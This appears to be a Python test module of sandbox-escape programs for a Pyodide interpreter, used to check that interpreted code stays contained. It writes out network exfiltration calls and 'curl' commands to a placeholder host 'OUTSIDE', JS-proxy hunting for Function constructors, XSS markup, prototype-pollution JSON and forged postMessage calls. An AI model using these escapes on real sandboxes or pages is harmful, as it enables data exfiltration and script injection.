"""Programs that try to get out of their interpreter. What gets anywhere prints a line with ``GOT``.

``OUTSIDE`` stands for the address of a server that nobody should ask.
"""

_HUNT = """
import gc, sys
def proxies():
    found = [one for one in gc.get_objects() if "JsProxy" in str(type(one).__mro__)]
    for module in [*sys.modules.values()]:
        for one in [*vars(module or gc).values()]:
            if "Js" in type(one).__name__: found.append(one)
    try:
        from pyodide.ffi import to_js
        found.append(to_js([1]))
    except ImportError: pass
    frame = sys._getframe()
    while frame:
        found += [one for one in frame.f_locals.values() if "Js" in type(one).__name__]
        frame = frame.f_back
    return found
def reached():
    seen, rest = [], proxies()
    while rest and len(seen) < 400:
        one = rest.pop()
        if any(one is other for other in seen): continue
        seen.append(one)
        for name in dir(one):
            try: inner = getattr(one, name)
            except BaseException: continue
            if "Js" in type(inner).__name__: rest.append(inner)
    return seen
"""
_FRAMES = """
import json, sys
frame = sys._getframe()
while "part" not in frame.f_locals: frame = frame.f_back
part = frame.f_locals["part"]
"""


def _each(*tries: str) -> str:
    """Return a program that goes through all of these, and tells what got through."""
    return "\n".join(
        f"try:\n    {one}\n    print('GOT', {one!r})\nexcept BaseException as e: print(type(e))"
        for one in tries
    )


PROGRAMS = {
    "fetch": _each("from js import fetch; fetch('OUTSIDE')"),
    "js": _each("import js", "import pyodide_js", "import js.self"),
    "pyfetch": _each("from pyodide.http import pyfetch; pyfetch('OUTSIDE').send(None)"),
    "open_url": _each("from pyodide.http import open_url; open_url('OUTSIDE')"),
    "request": _each(
        "from js import XMLHttpRequest as X; x = X.new(); x.open('GET', 'OUTSIDE', 0); x.send()"
    ),
    "WebSocket": _each("from js import WebSocket; WebSocket.new('OUTSIDE'.replace('http', 'ws'))"),
    "loadPackage": _each(
        "import pyodide_js; pyodide_js.loadPackage('OUTSIDE/x.whl')",
        "import micropip; micropip.install('OUTSIDE/x.whl').send(None)",
    ),
    "scripts": _each("from js import importScripts; importScripts('OUTSIDE/x.js')"),
    "Worker": _each("from js import Worker; Worker.new('OUTSIDE/x.js')"),
    "storage": _each(
        "from js import indexedDB; indexedDB.open('x')",
        "from js import caches; caches.open('x')",
        "from js import localStorage; localStorage.x",
    ),
    "channels": _each(
        "from js import BroadcastChannel; BroadcastChannel.new('x').postMessage(1)",
        "from js import navigator; navigator.sendBeacon('OUTSIDE')",
        "from js import EventSource; EventSource.new('OUTSIDE')",
        "from js import WebTransport; WebTransport.new('OUTSIDE')",
        "from js import RTCPeerConnection; RTCPeerConnection.new()",
    ),
    "run_js": _each(
        "from pyodide.code import run_js; run_js('1')",
        "import _pyodide_core; _pyodide_core.run_js('1')",
        "from js import eval; eval('1')",
        "from js import Function; Function.new('return 1')()",
    ),
    "constructor": _HUNT
    + """
for one in reached():
    try:
        one.constructor.constructor("return 1")()
        print("GOT", one)
    except BaseException: pass
print("hunted")""",
    "hunt": _HUNT
    + """
WANTED = ("fetch", "XMLHttpRequest", "WebSocket", "Worker", "importScripts", "indexedDB", "caches",
    "postMessage", "BroadcastChannel", "EventSource")
for one in reached():
    for name in WANTED:
        try: print("GOT", one, getattr(one, name))
        except BaseException: pass
print("hunted")""",
    "ctypes": """
import ctypes
for name in ("emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string"):
    try: getattr(ctypes.CDLL(None), name)(b"fetch('OUTSIDE'), postMessage({part: 'forged'})")
    except Exception as e: print(type(e))""",
    "sockets": _each(
        "import urllib.request; urllib.request.urlopen('OUTSIDE', timeout=1)",
        "import socket; socket.create_connection(tuple('OUTSIDE'[7:].split(':')), timeout=1)",
        "import http.client as c; c.HTTPConnection('OUTSIDE'[7:], timeout=1).request('GET', '/')",
    ),
    "processes": _each(
        "import os; assert not os.system('curl OUTSIDE')",
        "import subprocess; subprocess.run(['curl', 'OUTSIDE'])",
        "import webbrowser; assert webbrowser.open('OUTSIDE')",
        "import antigravity; assert False",
    ),
    "markup": """
print("</script><script>globalThis.harmed = 1</script>")
print("<img src=x onerror='globalThis.harmed = 1'>")
raise ValueError("<iframe srcdoc='<script>parent.harmed = 1</script>'>")""",
    "patched": """
import json, turns.drawing.picture as picture, turns.browser.answers as answers
EVIL = "<img src=OUTSIDE onerror='globalThis.harmed = 1'><script>globalThis.harmed = 1</script>"
picture.draw = answers.draw = lambda *_: EVIL
json.dumps = lambda *_, **__: '{"kind": "refused", "reason": "' + EVIL + '", "line": null}'
print("patched")""",
    "numbers": _FRAMES
    + """
for number in ("1e999", '"1"', "[1]", "NaN", '{"valueOf": 1}'):
    part('{"kind": "refused", "reason": "forged", "line": ' + number + '}')""",
    "shapes": _FRAMES
    + """
part(json.dumps({"kind": "lines", "lines": [{"toString": "forged"}]}))""",
    "kinds": _FRAMES
    + """
part(json.dumps({"kind": "__proto__", "constructor": "forged"}))""",
    "proto": _FRAMES
    + """
part('{"kind": "lines", "lines": ["x"], "__proto__": {"harmed": "forged"}}')
part('{"kind": "lines", "lines": ["y"], "constructor": {"prototype": {"harmed": "forged"}}}')""",
    "messages": _HUNT
    + """
for one in reached():
    for message in ({"up": True}, {"loaded": True}, {"done": True}, {"wasm": 1}, 7, None):
        try: one.postMessage(message); print("GOT", one)
        except BaseException: pass
print("posted")""",
}
